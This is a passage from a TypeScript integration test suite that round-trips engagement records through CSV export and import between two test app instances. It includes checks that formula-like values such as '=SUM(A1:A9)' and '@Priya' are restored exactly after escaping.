    a = await createTestApp();
    const vendors = [];
    for (const name of vendorNames) vendors.push(await newVendor(a, a.adminKey, { name }));
    const person = (email: string) => newPerson(a, a.adminKey, { email });
    const ownerOne = await person(`Priya.Raman-${s}@Example.com`);
    const ownerTwo = await person(`sam.okafor-${s}@example.com`);
    const tradeOne = await person(`li.wei-${s}@example.com`);
    const tradeTwo = await person(`o'brien-${s}@example.com`);
    const recipients = [];
    for (const name of ['zara', 'ana', 'mo', 'ben']) {
      recipients.push(await person(`${name}-${s}@example.com`));
    }

    const rich = await newEngagement(a, a.adminKey, {
      title: formulaTitle,
      vendorId: vendors[0].id,
      productOwnerId: ownerOne.id,
      contractRef: ref(1),
      knowledgeRecipientIds: [recipients[0].id, recipients[1].id, recipients[2].id],
      startDate: daysFromToday(-5),
      contractEndDate: daysFromToday(300),
      noticePeriodDays: 45,
      criticality: 'critical',
      spec: {
        problem: richProblem,
        successMetrics: [
          { name: 'Latency: p95; warm cache', target: '≤ 200 ms; ≤ 1 s cold' },
          { name: 'Fields extracted correctly', target: '≥ 97 % on the audit sample' },
          { name: 'Export to C:\\finance\\', target: 'ratio 3:1' },
        ],
        constraints: ['Invoices never leave the EU; not even backups', '+20 % budget at most'],
        tradeOffOwnerId: tradeOne.id,
        tradeOffRule: '@Priya decides: accuracy over latency, always.',
      },
    });
    await newMilestone(a, a.adminKey, rich.id, {
      name: 'Final handover',
      kind: 'final_handover',
      dueDate: daysFromToday(120),
    });
    await newMilestone(a, a.adminKey, rich.id, { name: 'Pilot', dueDate: daysFromToday(40) });

    const quoted = await newEngagement(a, a.adminKey, {
      title: '+1 ops "hot" path, rebuilt',
      vendorId: vendors[1].id,
      productOwnerId: ownerTwo.id,
      contractRef: ref(2),
      knowledgeRecipientIds: [recipients[3].id],
      contractEndDate: daysFromToday(50),
      criticality: 'important',
      spec: {
        problem: crlfProblem,
        successMetrics: [{ name: '-1 day review time', target: '= 5 days or less' }],
        constraints: ['-20 % opex', '@team only', 'Runs on our Azure tenant'],
        tradeOffOwnerId: tradeTwo.id,
        tradeOffRule: "'=already quoted by someone",
      },
    });
    await newMilestone(a, a.adminKey, quoted.id, {
      name: 'Final handover',
      kind: 'final_handover',
      dueDate: daysFromToday(60),
    });

    await newEngagement(a, a.adminKey, {
      title: 'Minimal engagement with nothing optional',
      vendorId: vendors[2].id,
      productOwnerId: ownerOne.id,
      contractRef: ref(3),
      spec: {
        problem: '=SUM(A1:A9) is how finance computes the accruals today, by hand.',
        successMetrics: [{ name: 'Accruals automated', target: '100 %' }],
        constraints: ['No new vendor accounts'],
        tradeOffOwnerId: tradeTwo.id,
        tradeOffRule: null,
      },
    });

    await importJson(a, [
      {
        title: '🚀 Forecasting — “smart” quotes & ümlauts',
        vendorName: vendorNames[1],
        contractRef: ref(4),
        productOwnerEmail: ownerTwo.email,
        knowledgeRecipientEmails: [recipients[2].email, recipients[0].email],
        startDate: daysFromToday(10),
        contractEndDate: daysFromToday(400),
        noticePeriodDays: 90,
        finalHandoverDate: daysFromToday(200),
        criticality: 'standard',
        spec: {
          problem: 'Demand planning runs on a spreadsheet nobody can maintain; 12 % stock-outs.',
          successMetrics: [
            { name: 'Stock-outs', target: '< 5 %' },
            { name: 'MAPE', target: '≤ 15 %' },
          ],
          constraints: ['Weekly batch, not real time'],
          tradeOffOwnerEmail: tradeOne.email,
          tradeOffRule: 'Explainability over accuracy.',
        },
      },
    ]);
    for (let n = 5; n <= 8; n++) {
      await newEngagement(a, a.adminKey, {
        title: `Engagement number ${n}, plain`,
        vendorId: vendors[n % 3].id,
        productOwnerId: (n % 2 ? ownerOne : ownerTwo).id,
        contractRef: ref(n),
        knowledgeRecipientIds: [recipients[n % 4].id, recipients[(n + 1) % 4].id],
        // A metric's measurement has no CSV column (SPEC §10: name: target pairs).
        spec: {
          tradeOffOwnerId: tradeOne.id,
          successMetrics: [{ name: `Metric ${n}`, target: `${n * 10} % fewer errors` }],
        },
      });
    }

    exportA = expectOk(await download(a, { format: 'csv' })).text;
    engagementsA = byKey(await exportNdjson(a), (e) => e.contractRef as string);
    emailsA = await emailsOf(a);

    b = await createTestApp();
    const importCsv = (query: Record<string, unknown>) =>
      b
        .http()
        .post('/v1/imports/engagements')
        .query(query)
        .set(bearer(b.adminKey))
        .set('Content-Type', 'text/csv')
        .send(exportA);
    dryRun = await importCsv({ createMissing: true, dryRun: true });
    imported = await importCsv({ createMissing: true });
    exportB = expectOk(await download(b, { format: 'csv' })).text;
    engagementsB = byKey(await exportNdjson(b), (e) => e.contractRef as string);
  });
  afterAll(async () => {
    await b?.close();
    await a?.close();
  });

  it('checks the file in a dry run: 200 valid with every row, nothing written', () => {
    expect(dryRun.status).toBe(200);
    expect(dryRun.body).toEqual({ valid: true, rows: 8 });
  });

  it('imports the CSV export of A into the empty B: 201, creating its vendors and people', () => {
    expect(imported.status).toBe(201);
    expect(imported.body.created).toBe(8);
    expect(imported.body.engagementIds).toHaveLength(8);
    expect(
      (imported.body.createdVendors as { name: string }[]).map((vendor) => vendor.name).sort(),
    ).toEqual([...vendorNames].sort());
    const referenced = new Set(
      csvRows(exportA).flatMap((row) => [
        row.productOwnerEmail,
        row.tradeOffOwnerEmail,
        ...(row.knowledgeRecipientEmails ? row.knowledgeRecipientEmails.split(';') : []),
      ]),
    );
    expect(
      (imported.body.createdPeople as { email: string }[]).map((person) => person.email).sort(),
    ).toEqual([...referenced].sort());
  });

  it('exports from B, row by row by contractRef, what A exported but for id and createdAt', () => {
    const rowsA = csvRows(exportA);
    const rowsB = byKey(csvRows(exportB), (row) => row.contractRef);
    expect(rowsA).toHaveLength(8);
    expect(rowsB.size).toBe(rowsA.length);
    for (const rowA of rowsA) {
      const rowB = rowsB.get(rowA.contractRef);
      expect({
        contractRef: rowA.contractRef,
        ...withoutColumns(rowB ?? {}, ['id', 'createdAt']),
      }).toEqual({
        contractRef: rowA.contractRef,
        ...withoutColumns(rowA, ['id', 'createdAt']),
      });
    }
    expect(exportB.split('\r\n')[0]).toBe(exportA.split('\r\n')[0]);
  });

  it('gives the engagements in B the title, spec, criticality, dates and status they had in A', () => {
    expect([...engagementsB.keys()].sort()).toEqual([...engagementsA.keys()].sort());
    const facts = (engagement: ExportedEngagement) => ({
      title: engagement.title,
      contractRef: engagement.contractRef,
      spec: { ...engagement.spec, tradeOffOwnerId: undefined },
      criticality: engagement.criticality,
      startDate: engagement.startDate,
      contractEndDate: engagement.contractEndDate,
      noticePeriodDays: engagement.noticePeriodDays,
      lastSafeHandoverDate: engagement.lastSafeHandoverDate,
      status: engagement.status,
      risk: engagement.risk,
    });
    for (const [contractRef, engagementA] of engagementsA) {
      expect(facts(engagementsB.get(contractRef) as ExportedEngagement)).toEqual(
        facts(engagementA),
      );
    }
  });

  it('restores formula-like and apostrophe-led values exactly, not with the export’s apostrophe', () => {
    expect(engagementsB.get(ref(1))?.title).toBe(formulaTitle);
    expect(engagementsB.get(ref(1))?.spec.tradeOffRule).toBe(
      '@Priya decides: accuracy over latency, always.',
    );
    expect(engagementsB.get(ref(2))?.title).toBe('+1 ops "hot" path, rebuilt');
    expect(engagementsB.get(ref(2))?.spec.tradeOffRule).toBe("'=already quoted by someone");
    expect(engagementsB.get(ref(2))?.spec.constraints).toEqual([
      '-20 % opex',
      '@team only',
      'Runs on our Azure tenant',
    ]);
    expect(engagementsB.get(ref(3))?.spec.problem).toBe(
      '=SUM(A1:A9) is how finance computes the accruals today, by hand.',
    );
  });

  it('restores metrics and constraints with :, ; and \\ in them, and multi-line problems', () => {
    const rich = engagementsB.get(ref(1)) as ExportedEngagement;
    expect(rich.spec.problem).toBe(richProblem);
    expect(rich.spec.successMetrics).toEqual([
      { name: 'Latency: p95; warm cache', target: '≤ 200 ms; ≤ 1 s cold' },
      { name: 'Fields extracted correctly', target: '≥ 97 % on the audit sample' },
      { name: 'Export to C:\\finance\\', target: 'ratio 3:1' },
    ]);
    expect(rich.spec.constraints).toEqual([
      'Invoices never leave the EU; not even backups',
      '+20 % budget at most',
    ]);
    expect(engagementsB.get(ref(2))?.spec.problem).toBe(crlfProblem);
  });

  it('links B’s engagements to vendors and people with A’s names and e-mails', async () => {
    const emailsB = await emailsOf(b);
    const vendorName = async (t: TestApp, id: string) =>
      (await t.http().get(`/v1/vendors/${id}`).set(bearer(t.adminKey))).body.name as string;
    const references = async (
      t: TestApp,
      emails: Map<string, string>,
      engagement: ExportedEngagement,
    ) => ({
      vendor: await vendorName(t, engagement.vendorId),
      productOwner: emails.get(engagement.productOwnerId),
      tradeOffOwner: emails.get(engagement.spec.tradeOffOwnerId),
      recipients: engagement.knowledgeRecipientIds.map((id) => emails.get(id)).sort(),
    });
    for (const [contractRef, engagementA] of engagementsA) {
      const engagementB = engagementsB.get(contractRef) as ExportedEngagement;
      expect(engagementB.vendorId).not.toBe(engagementA.vendorId);
      expect(await references(b, emailsB, engagementB)).toEqual(
        await references(a, emailsA, engagementA),
      );
    }
  });

  it('gives B’s engagements a final handover due when A’s was, and none where A had none', async () => {
    for (const [contractRef, engagementA] of engagementsA) {
      const engagementB = engagementsB.get(contractRef) as ExportedEngagement;
      expect([contractRef, await finalHandoverDue(b, engagementB.id)]).toEqual([
        contractRef,
        await finalHandoverDue(a, engagementA.id),
      ]);
    }
    expect(await finalHandoverDue(b, (engagementsB.get(ref(1)) as ExportedEngagement).id)).toBe(
      daysFromToday(120),
    );
  });

  it('refuses the same file again in B, all or nothing: 422 naming every taken contractRef', async () => {
    const response = await b
      .http()
      .post('/v1/imports/engagements')
      .query({ createMissing: true })
      .set(bearer(b.adminKey))
      .set('Content-Type', 'text/csv')
      .send(exportA);
    const problem = expectProblem(response, 422, 'import-invalid');
    const taken = (problem.errors ?? []).filter((error) => error.code === 'CONTRACT_REF_TAKEN');
    expect(taken.map((error) => error.field)).toEqual(Array(8).fill('contractRef'));
    expect(await exportCsv(b)).toHaveLength(8);
  });
});
